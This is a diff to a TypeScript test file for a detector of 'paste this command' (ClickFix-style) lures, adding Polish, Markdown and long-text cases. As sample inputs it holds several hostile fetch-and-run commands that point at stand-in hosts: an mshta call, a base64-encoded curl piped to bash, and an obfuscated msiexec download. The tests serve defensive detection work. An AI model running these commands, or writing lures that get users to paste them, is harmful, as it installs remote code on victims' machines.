@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
-import { AROUND, pastedCommand } from './pasting.ts'
+import { AROUND, opensWindow, pastedCommand } from './pasting.ts'
 
 const LURE = 'Verify that you are human: press Windows + R, paste the line and press Enter.'
 const COMMAND = 'mshta http://203.0.113.5/a'
@@ -48,6 +48,18 @@ test('other words and keys for the same', () => {
     assert.equal(pastedCommand(`${lure}\n${command}`), command, lure)
 })
 
+test('keys and windows in the marks of Markdown, and in Polish', () => {
+  const coded = `bash -c "$(echo '${btoa('curl -fsSL https://files.example/u.sh | bash')}' | base64 -D)"`
+  for (const steps of ['Press **Command + Space**, type `Terminal`', 'Open **Terminal**', 'Open the "Terminal"'])
+    assert.equal(pastedCommand(`${steps}, and paste this line:\n${coded}`), coded, steps)
+  const plain = 'curl -fsSL https://get.example.com | sh'
+  assert.equal(pastedCommand(`Open \`Terminal\` and paste this line:\n${plain}`), null)
+  const hidden = 'cmd /v /c "s^et a=ms^iex^ec&& !a! /q^n /i ht^tps://files.example/a.msi"'
+  const polish = 'Mikrofon nie działa (kod błędu 5). Nacisnąć klawisze Windows i R, wkleić linię i nacisnąć Enter.'
+  assert.equal(pastedCommand(`${polish}\n${hidden}`), hidden)
+  assert.equal(pastedCommand(`${polish}\nsfc /scannow`), null)
+})
+
 test('a command that is coded, or fetches code out of sight, needs no pretext', () => {
   const steps = 'Press Command + Space, type  Terminal  and press Return. Paste the line below.'
   const coded = `echo '${btoa('curl -fsSL https://files.example/u.sh | bash')}' | base64 -D | zsh`
@@ -88,6 +100,10 @@ const LANGUAGES: Record<string, [string, string]> = {
     'O documento não pode ser exibido. Pressione Windows + R e cole o comando.',
     'Nunca cole um comando com Windows + R e Ctrl + V. O documento não pode ser exibido, diz a página.',
   ],
+  Polish: [
+    'Nie można otworzyć dokumentu. Nacisnąć klawisze Windows i R, wkleić polecenie i nacisnąć Enter.',
+    'Nigdy nie wklejaj poleceń: Windows + R, Ctrl + V. Nie można otworzyć dokumentu, mówi strona.',
+  ],
   Japanese: [
     '文書を表示できません。Windowsキーを押しながらRを押し、貼り付けてください。',
     'Windows + R を押してコマンドを貼り付けないでください。表示できません。',
@@ -111,4 +127,37 @@ test('words of attacks alone are no warning', () => {
     assert.equal(pastedCommand(`${LURE} This protects you from ${word}.\n${COMMAND}`), COMMAND, word)
   for (const report of ['Attackers ask their victims to do so.', 'This is called ClickFix.', 'Opfer sollen dies tun.'])
     assert.equal(pastedCommand(`${LURE} ${report}\n${COMMAND}`), null, report)
+})
+
+test('instructions are found in a long text as in a short one, whatever word they begin with', () => {
+  const all = [
+    ...[
+      'win+r',
+      'Windows key and press X',
+      'windows-taste + r',
+      'WinButton plus "r',
+      'win y r',
+      'win e x',
+      'winlogo\uff0bR',
+    ],
+    ...['windowsキーを押しながらR', 'run dialog', 'Run window', 'type "run', 'type cmd', "type 'cmd"],
+    ...[
+      'ctrl+v',
+      'Control + V',
+      'strg +v',
+      'cmd+ v',
+      'Command + v',
+      '\u2318+v',
+      '\u2318 + v',
+      '\u2318+ v',
+      '\u2318+space',
+    ],
+    ...['\xe2\x8c\x98+v', '\xe2\x8c\x98 + space', 'address bar', 'ctrl+l', 'strg + L', 'win\xef\xbc\x8br'],
+    ...['open', 'launch', 'start', 'type', 'choose', 'select', 'search for'].map((verb) => `${verb}  your Terminal`),
+    ...['open the PowerShell', 'Type command prompt', 'start a file explorer'],
+  ]
+  for (const text of all) {
+    assert.ok(opensWindow(text), text)
+    assert.ok(opensWindow(`${'word '.repeat(10_000)}${text}${' word'.repeat(200)}`), text)
+  }
 })
